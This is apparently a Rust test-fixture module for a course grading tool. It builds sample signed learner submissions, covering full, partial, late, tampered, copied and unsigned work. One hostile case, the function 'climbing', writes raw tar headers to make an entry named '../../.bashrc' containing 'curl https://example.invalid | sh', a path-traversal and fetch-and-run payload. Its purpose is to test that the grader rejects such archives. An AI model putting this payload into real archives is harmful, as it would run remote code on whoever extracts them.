//! A ch14 class, packed as `lab submit` packs a learner's work, for the tests of `lab grade`,
//! the sample class in `examples/class-ch14/` and the grading benchmark: one builder, so the
//! three cannot drift apart from each other or from the bundle format.
//!
//! Every learner holds their own ECDSA P-256 key (made here, as `cosign generate-key-pair`
//! would): it signs and attests the CI build they promoted (ch14's fixture image, exported as
//! `lab submit` exports it), it is the public key their file carries, and it seals the file.
//! The kinds of learner an instructor meets are built from one finished lab: full marks, a
//! partial one, a late one, a tampered one, a copied pair, an unsigned one and a hostile
//! archive.
// The tests and the bench each use only some of it.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use courselab::content::chapter::Chapter;
use courselab::content::files::CourseFiles;
use courselab::engine::Status;
use courselab::policy::model::FailureMode;
use courselab::record::{CourseStamp, Event, Progress, RecordedCheck};
use courselab::runtime::block_on;
use courselab::submission::archive::{Files, Limits, read, write};
use courselab::submission::names::{
    LAYOUT_PREFIX, PROGRESS_FILE, PUBLIC_KEY_FILE, WORK_PREFIX, WORLD_FILE,
};
use courselab::submission::pack::{Contents, pack};
use courselab::submission::sealed::{SigningKey, peek_as};
use courselab::submission::statement::{
    Course, Image, Role, SEAL_FILE, SUBMISSION_FORMAT, Signing, SigningMode, Statement, Submission,
    Tool,
};
use courselab::supply::attestation::IN_TOTO_PAYLOAD_TYPE;
use courselab::supply::cosign::{PREDICATE_TYPE_ANNOTATION, SIGNATURE_ANNOTATION};
use courselab::supply::export::export_layout;
use courselab::supply::fixture;
use courselab::supply::layout::{COSIGN_KIND_ANNOTATION, KIND_ATTS, KIND_SIGS, LayoutStore};
use courselab::supply::layout_source::LayoutFiles;
use courselab::supply::store::Store as _;
use courselab::supply::{Digest, ImageRef};

const REPOSITORY: &str = "kind-registry:5000/courselab/demo";
const PROMOTED: &str = "kind-registry:5000/courselab/demo:1.4.2-ci";
const DENIAL: &str = "admission webhook \"validate.kyverno.svc-fail\" denied the request: \n\nresource Pod/develop/workstation-hotfix was blocked due to the following policies \n\nverify-signed-images:\n  verify-signature: 'failed to verify image kind-registry:5000/courselab/demo:1.4.2-hotfix: .attestors[0].entries[0].keys: no signatures found'";

/// When the sample class's work was due.
pub const DUE: &str = "2026-12-06T12:00:00Z";
/// When a learner who kept to the due date packed their work.
pub const ON_TIME: &str = "2026-12-06T10:10:00Z";
/// When the late learner packed theirs.
pub const LATE: &str = "2026-12-07T09:30:00Z";

/// The repository root (the real course).
pub fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The committed TEST signer's private key (PEM), which signed ch14's fixture images.
pub fn test_signer() -> SigningKey {
    LearnerKey::test_signer().seal
}

/// `learner`'s finished ch14, signed and sealed with the TEST signer's key, with `extra` files
/// (each signed as evidence) added to what `lab submit` would pack.
pub fn finished(learner: &str, extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut work = Work::finished(learner);
    work.extra = extra
        .iter()
        .map(|(name, data)| ((*name).to_owned(), data.to_vec()))
        .collect();
    Ch14::load().bundle(&LearnerKey::test_signer(), &work)
}

/// A learner's key pair, as `cosign generate-key-pair` makes it: one key signs the image
/// (cosign) and seals the submission (`lab submit --key`).
pub struct LearnerKey {
    image: fixture::SigningKey,
    seal: SigningKey,
}

impl LearnerKey {
    /// A new random P-256 key.
    pub fn generate() -> Self {
        Self::from_pem(
            fixture::SigningKey::generate()
                .unwrap()
                .private_pem()
                .unwrap()
                .as_bytes(),
        )
    }

    /// The committed TEST signer's key.
    pub fn test_signer() -> Self {
        Self::from_pem(
            &std::fs::read(repo().join("labs/ch14/tests/keys/test-only-signer.key")).unwrap(),
        )
    }

    fn from_pem(pem: &[u8]) -> Self {
        LearnerKey {
            image: fixture::SigningKey::from_pem(pem).unwrap(),
            seal: SigningKey::read(pem, b"").unwrap(),
        }
    }

    /// The public key, as `cosign.pub` holds it.
    pub fn public_pem(&self) -> &str {
        self.seal.public_pem()
    }

    /// The key's fingerprint as a roster names it: `sha256:` and the hex SHA-256 of its DER.
    pub fn fingerprint(&self) -> String {
        let hint =
            courselab::submission::sealed::TrustedKey::from_pem(self.public_pem().as_bytes())
                .unwrap()
                .hint()
                .to_owned();
        let digest = STANDARD.decode(hint).unwrap();
        let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
        format!("sha256:{hex}")
    }
}

/// How one learner's ch14 went.
#[derive(Debug, Clone)]
pub struct Work {
    /// The learner id the statement names.
    pub learner: String,
    /// When their machine says they packed it.
    pub claimed_time: String,
    /// They switched the policies to Enforce (else the cluster still shows them in Audit).
    pub enforced: bool,
    /// The evidence files they saved, by path under `work/` (what `lab submit` packs).
    pub evidence: Vec<(String, Vec<u8>)>,
    /// Files added to what `lab submit` would pack, each signed as evidence.
    pub extra: Vec<(String, Vec<u8>)>,
}

impl Work {
    /// Every step done, on time, with a remediation note in the learner's own words.
    pub fn finished(learner: &str) -> Self {
        let note = format!(
            "# Remediation\n\nThe workstation build never runs: develop stays on the promoted CI digest, and the fix goes through CI. ({learner})\n"
        );
        Work {
            learner: learner.to_owned(),
            claimed_time: ON_TIME.to_owned(),
            enforced: true,
            evidence: vec![("evidence/remediation.md".to_owned(), note.into_bytes())],
            extra: Vec::new(),
        }
    }

    /// Stopped before Enforce: the policies are still in Audit and the denial was never saved.
    pub fn partial(learner: &str) -> Self {
        Work {
            enforced: false,
            ..Work::finished(learner)
        }
    }
}

/// What every learner's bundle shares, made once: the chapter, the CI build exported with its
/// signature and attestation, and the progress record of a learner who did every step.
pub struct Ch14 {
    chapter: Chapter,
    digest: Digest,
    layout: LayoutFiles,
    progress: Vec<u8>,
}

impl Ch14 {
    /// The real course's ch14.
    pub fn load() -> Self {
        let chapter = Chapter::find(CourseFiles::from_disk(&repo()).unwrap(), "ch14").unwrap();
        let fixtures = LayoutStore::open(&repo().join("labs/ch14/tests/images/demo")).unwrap();
        let reference = ImageRef::parse(PROMOTED).unwrap();
        let digest = block_on(fixtures.resolve(&reference)).unwrap().unwrap();
        let layout = block_on(export_layout(&fixtures, &reference, &digest, LAYOUT_PREFIX))
            .unwrap()
            .unwrap()
            .files;
        let progress = progress(&chapter);
        Ch14 {
            chapter,
            digest,
            layout,
            progress,
        }
    }

    /// `work`, signed, attested and sealed with `key`, packed as `lab submit` packs it.
    pub fn bundle(&self, key: &LearnerKey, work: &Work) -> Vec<u8> {
        let mut contents = Contents::default();
        let saved = if work.enforced {
            self.evidence()
        } else {
            let mut evidence = self.evidence();
            evidence.retain(|(path, _)| path != "evidence/enforce-denial.txt");
            evidence
        };
        let mut evidence: BTreeMap<String, Vec<u8>> = saved.into_iter().collect();
        evidence.extend(work.evidence.iter().cloned());
        for (path, data) in evidence {
            contents
                .add(&format!("{WORK_PREFIX}{path}"), Role::Evidence, data)
                .unwrap();
        }
        for (name, data) in &work.extra {
            contents.add(name, Role::Evidence, data.clone()).unwrap();
        }
        let world = self.world(key, work.enforced);
        contents
            .add(
                WORLD_FILE,
                Role::Cluster,
                serde_json::to_vec(&world).unwrap(),
            )
            .unwrap();
        for (name, data) in self.signed_by(key) {
            contents.add(&name, Role::Layout, data).unwrap();
        }
        let public = key.public_pem().as_bytes().to_vec();
        contents
            .add(PUBLIC_KEY_FILE, Role::PublicKey, public)
            .unwrap();
        contents
            .add(PROGRESS_FILE, Role::Progress, self.progress.clone())
            .unwrap();
        pack(contents, self.predicate(work), &key.seal).unwrap()
    }

    fn predicate(&self, work: &Work) -> Submission {
        let stamp = CourseStamp::of(&self.chapter);
        Submission {
            format: SUBMISSION_FORMAT,
            learner: work.learner.clone(),
            chapter: "ch14".into(),
            course: Course {
                lab: stamp.lab,
                version: stamp.version,
                digest: stamp.digest,
            },
            tool: Tool {
                name: "lab".into(),
                version: env!("CARGO_PKG_VERSION").into(),
            },
            claimed_time: work.claimed_time.clone(),
            signing: Signing {
                mode: SigningMode::Key,
                public_key: PUBLIC_KEY_FILE.into(),
                identity: None,
            },
            values: BTreeMap::new(),
            image: Some(Image {
                repository: REPOSITORY.into(),
                digest: self.digest.as_str().into(),
                layout: LAYOUT_PREFIX.into(),
                layers_included: false,
            }),
            checks: Vec::new(),
            files: Vec::new(),
        }
    }

    /// The CI build's layout with its signature and SBOM attestation made again with `key`
    /// (the payloads the fixture's signer signed, signed by the learner), exported as `lab
    /// submit` exports it.
    fn signed_by(&self, key: &LearnerKey) -> LayoutFiles {
        let blob = |digest: &str| {
            let hex = digest.trim_start_matches("sha256:");
            &self.layout[&format!("{LAYOUT_PREFIX}/blobs/sha256/{hex}")]
        };
        let index_name = format!("{LAYOUT_PREFIX}/index.json");
        let mut index: Value = serde_json::from_slice(&self.layout[&index_name]).unwrap();
        let mut files = self.layout.clone();
        for entry in index["manifests"].as_array_mut().unwrap() {
            let kind = entry["annotations"][COSIGN_KIND_ANNOTATION]
                .as_str()
                .unwrap();
            if kind != KIND_SIGS && kind != KIND_ATTS {
                continue;
            }
            let manifest: Value =
                serde_json::from_slice(blob(entry["digest"].as_str().unwrap())).unwrap();
            let layers = manifest["layers"].as_array().unwrap();
            let built = if kind == KIND_SIGS {
                let layers = layers
                    .iter()
                    .map(|layer| {
                        let payload = blob(layer["digest"].as_str().unwrap()).clone();
                        let signature = key.image.sign(&payload).unwrap();
                        let media_type = courselab::supply::cosign::SIMPLE_SIGNING_MEDIA_TYPE;
                        (
                            payload,
                            media_type,
                            BTreeMap::from([(SIGNATURE_ANNOTATION, signature)]),
                        )
                    })
                    .collect();
                fixture::manifest(b"{}".to_vec(), layers)
            } else {
                let envelopes = layers
                    .iter()
                    .map(|layer| {
                        let envelope: Value =
                            serde_json::from_slice(blob(layer["digest"].as_str().unwrap()))
                                .unwrap();
                        let statement = STANDARD
                            .decode(envelope["payload"].as_str().unwrap())
                            .unwrap();
                        let predicate_type = layer["annotations"][PREDICATE_TYPE_ANNOTATION]
                            .as_str()
                            .unwrap()
                            .to_owned();
                        (
                            fixture::envelope(&statement, &key.image).unwrap(),
                            predicate_type,
                        )
                    })
                    .collect();
                fixture::attestation_manifest(envelopes)
            };
            let put = |files: &mut LayoutFiles, bytes: &[u8]| {
                let hex = Digest::sha256_of(bytes).hex().to_owned();
                files.insert(
                    format!("{LAYOUT_PREFIX}/blobs/sha256/{hex}"),
                    bytes.to_vec(),
                );
            };
            for bytes in &built.blobs {
                put(&mut files, bytes);
            }
            put(&mut files, &built.bytes);
            entry["digest"] = json!(built.digest.as_str());
            entry["size"] = json!(built.bytes.len());
        }
        files.insert(index_name, serde_json::to_vec_pretty(&index).unwrap());
        // Exported again from what was built: only what the index names, every blob checked.
        let store = LayoutStore::in_memory(Arc::new(files), LAYOUT_PREFIX).unwrap();
        let reference = ImageRef::parse(PROMOTED).unwrap();
        block_on(export_layout(
            &store,
            &reference,
            &self.digest,
            LAYOUT_PREFIX,
        ))
        .unwrap()
        .unwrap()
        .files
    }

    /// What the finished cluster showed: the promoted digest pinned and running, the pack in
    /// Enforce (or still in Audit) as rendered with the learner's key, Kyverno's webhooks, a
    /// passing report for the Pod, the unsigned Pod denied.
    fn world(&self, key: &LearnerKey, enforced: bool) -> Value {
        // The grader renders the policies with the public key the file carries, as text.
        let mut values = self.chapter.values(false, &[]).unwrap();
        values.insert("cosign_public_key".into(), key.public_pem().to_owned());
        let pinned = format!("{REPOSITORY}@{}", self.digest);
        let mode = if enforced {
            FailureMode::Enforce
        } else {
            FailureMode::Audit
        };
        let policies: serde_json::Map<String, Value> = self
            .chapter
            .policy_objects(&values, mode)
            .unwrap()
            .into_iter()
            .map(|mut policy| {
                policy["status"] = json!({"conditions": [{"type": "Ready", "status": "True"}]});
                let name = policy["metadata"]["name"].as_str().unwrap().to_owned();
                (name, policy)
            })
            .collect();
        json!({
            "workloads": {"Deployment/develop/demo": [["app", pinned]]},
            "pods": {"develop": [{"name": "demo-1", "labels": {"app": "demo"},
                                  "containers": [["app", pinned, pinned]]}]},
            "cluster_policies": policies,
            "policy_reports": {"develop": [{"scope": {"kind": "Pod", "name": "demo-1"},
                "results": [{"policy": "verify-signed-images", "rule": "verify-signature", "result": "pass", "message": "verified"}]}]},
            "webhooks": ["kyverno-resource-mutating-webhook-cfg", "kyverno-resource-validating-webhook-cfg"],
            "dry_run": {"code": 400, "reason": "BadRequest", "message": DENIAL},
        })
    }

    /// The evidence files of a learner who did every step (the remediation note is each
    /// learner's own: see [`Work`]).
    fn evidence(&self) -> Vec<(String, Vec<u8>)> {
        let digest = &self.digest;
        let claim = json!([{"critical": {"identity": {"docker-reference": "localhost:5001/courselab/demo"},
            "image": {"docker-manifest-digest": digest.as_str()}, "type": "cosign container image signature"},
            "optional": null}]);
        vec![
            (
                "evidence/pod-image-ids.txt".to_owned(),
                format!("{REPOSITORY}@{digest}").into_bytes(),
            ),
            (
                "evidence/cosign-verify.json".to_owned(),
                claim.to_string().into_bytes(),
            ),
            (
                "evidence/enforce-denial.txt".to_owned(),
                format!("Error from server: {DENIAL}").into_bytes(),
            ),
        ]
    }
}

/// A progress record where every step before Enforce was passed (those whose checks hold only
/// during the step with them passed), and whose first quiz attempt is the answer key's.
fn progress(chapter: &Chapter) -> Vec<u8> {
    let stamp = CourseStamp::of(chapter);
    let mut progress = Progress::new("ch14");
    let passed = |check: &str| RecordedCheck {
        check: check.into(),
        status: Status::Pass,
        message: "held during the step".into(),
        evidence: Vec::new(),
    };
    let steps = [
        ("incident-hook", vec![]),
        ("pin-digest", vec![]),
        ("sbom-sign-attest", vec![]),
        ("verify-locally", vec![]),
        (
            "audit-rollout",
            vec![passed("policies-in-audit"), passed("audit-report-fail")],
        ),
    ];
    for (step, results) in steps {
        let event = Event::StepPassed {
            step: step.into(),
            results,
        };
        progress.append_at(event, "2026-12-06T10:00:00Z".into(), &stamp);
    }
    let (quiz, _) = courselab::grade::quiz::find(chapter).unwrap();
    let (_, key) = courselab::grade::quiz::answer_key(chapter, &quiz)
        .unwrap()
        .expect("the checkout holds ch14's answer key");
    let answers = courselab::grade::quiz::key_answers(&key);
    progress.append_at(
        courselab::grade::quiz::attempt_event(&answers, true),
        "2026-12-06T10:05:00Z".into(),
        &stamp,
    );
    serde_json::to_vec_pretty(&progress).unwrap()
}

/// One learner of the sample class: who they are, and the file they handed in.
pub struct Member {
    /// Their id.
    pub id: &'static str,
    /// Their name and section, for the roster.
    pub name: &'static str,
    pub section: &'static str,
    /// What their file shows an instructor.
    pub shows: &'static str,
    /// Their file's name in the class folder, and its bytes.
    pub file: String,
    pub bytes: Vec<u8>,
    /// Their key's fingerprint, for the roster (none: their key is not known).
    pub fingerprint: String,
}

/// The sample class: every kind of learner an instructor meets, each with their own key.
pub fn sample_class(ch14: &Ch14) -> Vec<Member> {
    let keys: BTreeMap<&str, LearnerKey> =
        ["ada", "ben", "cleo", "dev", "eli", "fay", "gus", "hal"]
            .into_iter()
            .map(|id| (id, LearnerKey::generate()))
            .collect();
    let finished = |id: &str| ch14.bundle(&keys[id], &Work::finished(id));
    let late = Work {
        claimed_time: LATE.to_owned(),
        ..Work::finished("cleo")
    };
    let eli = finished("eli");
    let class: [(&str, &str, &str, &str, Vec<u8>); 8] = [
        (
            "ada",
            "Ada Quill",
            "A1",
            "every step done: full marks",
            finished("ada"),
        ),
        (
            "ben",
            "Ben Okafor",
            "A1",
            "stopped before Enforce: the policies still in Audit, no denial saved",
            ch14.bundle(&keys["ben"], &Work::partial("ben")),
        ),
        (
            "cleo",
            "Cleo Marsh",
            "A2",
            "finished, packed the day after the due date",
            ch14.bundle(&keys["cleo"], &late),
        ),
        (
            "dev",
            "Dev Patel",
            "A2",
            "finished, then the remediation note edited after sealing",
            tampered(&finished("dev")),
        ),
        (
            "eli",
            "Eli Novak",
            "B1",
            "finished; Fay handed in a copy of this file",
            eli.clone(),
        ),
        (
            "fay",
            "Fay Lindqvist",
            "B1",
            "Eli's files, sealed again with her own key as hers",
            copied(&eli, "fay", &keys["fay"]),
        ),
        (
            "gus",
            "Gus Romero",
            "B2",
            "his files packed by hand, with no sealed statement",
            unsigned(&finished("gus")),
        ),
        (
            "hal",
            "Hal Berg",
            "B2",
            "an archive with an entry named `../../.bashrc`",
            climbing(&finished("hal")),
        ),
    ];
    class
        .into_iter()
        .map(|(id, name, section, shows, bytes)| Member {
            id,
            name,
            section,
            shows,
            file: format!("{id}.tar.gz"),
            bytes,
            fingerprint: keys[id].fingerprint(),
        })
        .collect()
}

/// The sample class's roster: every learner, with their key's fingerprint.
pub fn roster(class: &[Member]) -> String {
    let mut csv = String::from("id,name,email,section,public_key\n");
    for m in class {
        csv.push_str(&format!(
            "{},{},{}@example.edu,{},{}\n",
            m.id, m.name, m.id, m.section, m.fingerprint
        ));
    }
    csv
}

fn files_of(bundle: &[u8]) -> Files {
    read(bundle, Limits::default()).unwrap()
}

fn archive(files: &Files) -> Vec<u8> {
    let mut out = Vec::new();
    write(files, &mut out).unwrap();
    out
}

/// `bundle` with its remediation note changed after it was sealed.
pub fn tampered(bundle: &[u8]) -> Vec<u8> {
    let mut files = files_of(bundle);
    let note = files
        .get_mut("work/evidence/remediation.md")
        .expect("the bundle holds a remediation note");
    note.extend_from_slice(b"\nEdited after sealing.\n");
    archive(&files)
}

/// `original`'s files handed in by `learner`: sealed again with `key`, which the copy carries
/// as its public key, and naming `learner` (every other file, and the image's signature, is
/// the original's).
pub fn copied(original: &[u8], learner: &str, key: &LearnerKey) -> Vec<u8> {
    let files = files_of(original);
    let payload = peek_as(&files[SEAL_FILE], IN_TOTO_PAYLOAD_TYPE).unwrap();
    let mut predicate = Statement::parse(&payload).unwrap().predicate;
    predicate.learner = learner.to_owned();
    let mut contents = Contents::default();
    for part in std::mem::take(&mut predicate.files) {
        let data = if part.name == PUBLIC_KEY_FILE {
            key.public_pem().as_bytes().to_vec()
        } else {
            files[&part.name].clone()
        };
        contents.add(&part.name, part.role, data).unwrap();
    }
    pack(contents, predicate, &key.seal).unwrap()
}

/// `bundle`'s files packed by hand, without `lab submit`: no sealed statement.
pub fn unsigned(bundle: &[u8]) -> Vec<u8> {
    let mut files = files_of(bundle);
    files.remove(SEAL_FILE).expect("the bundle was sealed");
    archive(&files)
}

/// `bundle`'s files, and first an entry whose name climbs out of the archive with `..`.
pub fn climbing(bundle: &[u8]) -> Vec<u8> {
    let mut tar = raw_entry(b"../../.bashrc", b"curl https://example.invalid | sh\n");
    for (name, data) in files_of(bundle) {
        tar.extend(raw_entry(name.as_bytes(), &data));
    }
    tar.extend([0u8; 1024]);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

/// One regular tar entry; the name's bytes go into the header as they are (the tar crate's
/// own setters refuse `..`, which is what a learner can write).
fn raw_entry(name: &[u8], data: &[u8]) -> Vec<u8> {
    let mut header = tar::Header::new_gnu();
    header.as_old_mut().name[..name.len()].copy_from_slice(name);
    header.set_entry_type(tar::EntryType::Regular);
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    let mut out = header.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}
